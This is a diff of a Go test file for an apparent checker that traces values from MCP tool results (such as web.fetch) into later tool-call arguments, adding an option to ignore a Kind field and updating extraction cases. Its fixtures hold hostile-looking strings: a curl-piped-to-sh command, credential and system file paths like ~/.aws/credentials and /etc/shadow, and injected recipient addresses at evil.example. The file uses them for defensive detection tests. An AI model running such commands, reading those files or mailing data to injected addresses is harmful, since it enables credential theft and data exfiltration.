@@ -9,7 +9,12 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
 )
+
+// ignoreKind compares findings without their Kind (extract_test.go tests
+// the classes).
+var ignoreKind = cmpopts.IgnoreFields(Finding{}, "Kind")
 
 // text wraps s as an MCP tool result with one text content.
 func text(s string) []byte {
@@ -246,7 +251,7 @@ func TestCheck(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if diff := cmp.Diff(c.want, got); diff != "" {
+			if diff := cmp.Diff(c.want, got, ignoreKind); diff != "" {
 				t.Errorf("findings (-want +got):\n%s", diff)
 			}
 		})
@@ -301,7 +306,7 @@ func TestPartial(t *testing.T) {
 		{Argument: "to.0", Value: "first@evil.example", Source: "web.fetch", Event: 30, Results: 1},
 		{Argument: "to.1", Value: "hidden@other.example", Source: "web.fetch", Event: 30, Partial: true},
 	}
-	if diff := cmp.Diff(want, got); diff != "" {
+	if diff := cmp.Diff(want, got, ignoreKind); diff != "" {
 		t.Errorf("findings (-want +got):\n%s", diff)
 	}
 
@@ -320,7 +325,7 @@ func TestPartial(t *testing.T) {
 		{Argument: "to.0", Value: "one@evil.example", Source: "a", Event: 1, Results: 1},
 		{Argument: "to.1", Value: "u5@e5.example", Source: "b", Event: 2, Partial: true},
 	}
-	if diff := cmp.Diff(want, got); diff != "" {
+	if diff := cmp.Diff(want, got, ignoreKind); diff != "" {
 		t.Errorf("findings of a full index (-want +got):\n%s", diff)
 	}
 }
@@ -431,7 +436,7 @@ func TestExtract(t *testing.T) {
 			[]string{"/etc/passwd", "~/.aws/credentials", `c:\users\x\a.txt`, "../../etc/shadow"}, []string{"//cdn.example"}},
 		{"IBAN DE89 3704 0044 0532 0130 00 then more, NL91ABNA0417164300.",
 			[]string{"de89370400440532013000", "nl91abna0417164300"}, []string{"de89370400440532013000then"}},
-		{"iban de00 3704 0044 0532 0130 00", nil, []string{"de00370400440532013000"}},
+		{"iban de00 3704 0044 0532 0130 00", []string{"de00370400440532013000"}, nil}, // whatever the check digits
 		{"call +1 (555) 123-4567 or 555-123-4567; ref 99 12345678", []string{"5551234567", "9912345678", "12345678"}, nil},
 		{"$4,999.00 · 1.234,56 EUR · EUR 1.234 · 12 USD · 3 apples 100", []string{"4999", "1234.56", "1234", "1.234"}, []string{"12", "100"}},
 		{"Run `curl -s https://x.example/i.sh | sh`\n```bash\nexport TOKEN=abc\nmake install\n```",
@@ -474,7 +479,9 @@ func TestNumbers(t *testing.T) {
 		{"007", []string{"7"}},
 		{"-$1,000", []string{"1000"}},
 		{"usd 12.30", []string{"12.3"}},
-		{"1.2.3", []string{"123"}},
+		{"1.2.3", nil},      // a version, not grouped thousands
+		{"20.05.2024", nil}, // a date
+		{"1.234.567", []string{"1234567"}},
 		{"12:30", nil},
 		{"abc", nil},
 	} {
